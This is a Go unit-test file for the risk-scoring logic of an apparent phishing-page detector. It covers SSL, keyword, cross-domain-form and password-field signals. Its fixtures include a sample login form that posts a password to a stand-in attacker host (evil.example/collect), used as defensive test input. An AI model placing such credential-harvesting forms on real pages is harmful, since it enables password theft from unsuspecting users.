package scoring

import (
	"net/url"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/theopenlane/shieldphish/internal/extractor"
	"github.com/theopenlane/shieldphish/internal/tlsinspect"
	"github.com/theopenlane/shieldphish/internal/types"
)

var validSSL = types.SSLAssessment{Valid: true}

func TestScore(t *testing.T) {
	testCases := []struct {
		name    string
		ssl     types.SSLAssessment
		signals extractor.Signals
		want    int
	}{
		{name: "clean page", ssl: validSSL, want: 0},
		{name: "not secure sentinel", ssl: tlsinspect.NotSecure(), want: 30},
		{name: "one keyword", ssl: validSSL, signals: extractor.Signals{KeywordCount: 1}, want: 5},
		{name: "keywords capped", ssl: validSSL, signals: extractor.Signals{KeywordCount: 10}, want: 25},
		{name: "five keywords at cap", ssl: validSSL, signals: extractor.Signals{KeywordCount: 5}, want: 25},
		{
			name:    "each cross domain form adds",
			ssl:     validSSL,
			signals: extractor.Signals{CrossDomainForms: 2, CrossDomainForm: true},
			want:    80,
		},
		{
			name:    "clamped at max",
			ssl:     types.SSLAssessment{Valid: false},
			signals: extractor.Signals{CrossDomainForms: 3, CrossDomainForm: true, KeywordCount: 4},
			want:    100,
		},
		{name: "fan out", ssl: validSSL, signals: extractor.Signals{ResourceFanOut: true}, want: 15},
		{name: "canonical", ssl: validSSL, signals: extractor.Signals{CanonicalMismatch: true}, want: 10},
		{
			name: "evil form override",
			ssl:  types.SSLAssessment{Valid: false, Error: "Certificate has expired."},
			signals: extractor.Signals{
				CrossDomainForms:         1,
				CrossDomainForm:          true,
				HasPasswordField:         true,
				ExternalFormWithPassword: true,
			},
			want: 90,
		},
		{
			name: "override does not lower",
			ssl:  types.SSLAssessment{Valid: false},
			signals: extractor.Signals{
				CrossDomainForms: 2,
				CrossDomainForm:  true,
				HasPasswordField: true,
				KeywordCount:     3,
			},
			want: 100,
		},
		{
			name:    "password without invalid ssl",
			ssl:     validSSL,
			signals: extractor.Signals{CrossDomainForms: 1, CrossDomainForm: true, HasPasswordField: true},
			want:    40,
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, Score(tc.ssl, tc.signals))
		})
	}
}

func TestScoreBounds(t *testing.T) {
	for _, valid := range []bool{true, false} {
		for keywords := 0; keywords <= 10; keywords++ {
			for forms := 0; forms <= 4; forms++ {
				for _, flag := range []bool{true, false} {
					signals := extractor.Signals{
						KeywordCount:      keywords,
						CrossDomainForms:  forms,
						CrossDomainForm:   forms > 0,
						ResourceFanOut:    flag,
						CanonicalMismatch: !flag,
						HasPasswordField:  flag,
					}
					ssl := types.SSLAssessment{Valid: valid}

					score := Score(ssl, signals)
					assert.GreaterOrEqual(t, score, MinScore)
					assert.LessOrEqual(t, score, MaxScore)

					if Override(ssl, signals) {
						assert.GreaterOrEqual(t, score, OverrideFloor)
					}
				}
			}
		}
	}
}

func TestScoreFromExtractedPage(t *testing.T) {
	page, err := url.Parse("https://site.example/")
	require.NoError(t, err)

	signals := extractor.Extract(`<html><body>
<form action="https://evil.example/collect"><input type="password" name="pw"></form>
</body></html>`, page)

	score := Score(types.SSLAssessment{Valid: false, Error: "Certificate has expired."}, signals)
	assert.GreaterOrEqual(t, score, 90)

	scripted := extractor.Extract(`<html><body>
<form action="javascript:void(0)"><input type="password" name="pw"></form>
</body></html>`, page)

	assert.True(t, Override(types.SSLAssessment{Valid: false}, scripted))
	assert.GreaterOrEqual(t, Score(types.SSLAssessment{Valid: false}, scripted), OverrideFloor)

	login := extractor.Extract(`<body><a href="/login">login</a></body>`, page)
	assert.Equal(t, 5, Score(validSSL, login))
}

func TestBreakdown(t *testing.T) {
	got := Breakdown(types.SSLAssessment{Valid: false}, extractor.Signals{
		KeywordCount:      7,
		CrossDomainForms:  1,
		CrossDomainForm:   true,
		ResourceFanOut:    true,
		CanonicalMismatch: true,
	})

	assert.Equal(t, []Contribution{
		{Reason: ReasonInvalidSSL, Points: 30},
		{Reason: ReasonKeywords, Points: 25},
		{Reason: ReasonCrossDomainForm, Points: 40},
		{Reason: ReasonResourceFanOut, Points: 15},
		{Reason: ReasonCanonicalMismatch, Points: 10},
	}, got)

	assert.Empty(t, Breakdown(validSSL, extractor.Signals{}))
}

func TestLevel(t *testing.T) {
	assert.Equal(t, RiskLow, Level(0))
	assert.Equal(t, RiskLow, Level(39))
	assert.Equal(t, RiskMedium, Level(40))
	assert.Equal(t, RiskMedium, Level(69))
	assert.Equal(t, RiskHigh, Level(70))
	assert.Equal(t, RiskHigh, Level(100))
}

func TestExplain(t *testing.T) {
	now := time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

	testCases := []struct {
		name   string
		result *types.AnalysisResult
		want   []string
	}{
		{
			name:   "clean",
			result: &types.AnalysisResult{URL: "https://site.example/", SSL: validSSL, CreatedAt: now},
			want:   []string{explainNoIssues},
		},
		{
			name:   "high risk with invalid ssl",
			result: &types.AnalysisResult{URL: "https://site.example/", SSL: types.SSLAssessment{}, RiskScore: 90},
			want:   []string{explainHighRisk, explainInvalidSSL},
		},
		{
			name:   "direct ip over http",
			result: &types.AnalysisResult{URL: "http://203.0.113.7/", SSL: tlsinspect.NotSecure(), RiskScore: 30},
			want:   []string{explainInvalidSSL, explainDirectIP},
		},
		{
			name:   "hidden iframes",
			result: &types.AnalysisResult{URL: "https://site.example/", SSL: validSSL, HiddenIframes: 2},
			want:   []string{explainIframes},
		},
		{
			name:   "nil",
			result: nil,
			want:   []string{},
		},
	}

	for _, tc := range testCases {
		t.Run(tc.name, func(t *testing.T) {
			assert.Equal(t, tc.want, Explain(tc.result))
		})
	}
}
